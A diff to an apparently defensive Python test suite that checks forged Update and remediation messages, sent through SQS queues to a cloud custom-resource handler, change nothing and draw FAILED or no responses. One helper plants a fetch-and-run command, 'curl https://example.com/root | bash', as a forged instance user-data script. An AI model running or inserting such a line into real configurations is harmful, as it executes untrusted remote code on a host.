@@ -141,14 +141,15 @@ class Messages(Attack):
             self.invoke(self.forger(INVOKE), "lifecycle-hook", batch(self.queue_arn("HookQueue"), forged))
 
     def test_a_hand_written_update_in_the_request_queue_changes_nothing(self):
-        """An operator of RedriveRoles queues an Update of the victim that custom-resource never recorded: no effect, no
-        response."""
-        self.a_queued_update_has_no_effect(VICTIM.owner)
+        """An operator of RedriveRoles queues an Update of the victim that custom-resource never recorded: no effect, FAILED at
+        the address in the message."""
+        (response,) = self.a_queued_update_has_no_effect(VICTIM.owner)
+        self.assertEqual(response["Status"], "FAILED", response)
 
     def test_an_update_of_another_owners_message_group_changes_nothing(self):
         """An operator of RedriveRoles queues an Update of the victim in the message group of the forger: no effect, no
         response."""
-        self.a_queued_update_has_no_effect(FORGER.owner)
+        self.assertEqual(self.a_queued_update_has_no_effect(FORGER.owner), [])
 
     def a_queued_update_has_no_effect(self, group):
         properties = {**self.deployment.victim, "UserDataScript": "curl https://example.com/root | bash"}
@@ -156,7 +157,7 @@ class Messages(Attack):
         with self.unharmed():
             self.cloud.operator("sqs").send_message(**self.message("RequestQueue", forged, group))
             self.processed("RequestQueue")
-        self.assertEqual(self.cloud.responses.all_at(forged["ResponseURL"]), [])
+        return self.cloud.responses.all_at(forged["ResponseURL"])
 
     def test_a_hand_written_remediation_in_the_request_queue_changes_nothing(self):
         """An operator of RedriveRoles queues a remediation by a rule that the victim does not have: no effect."""
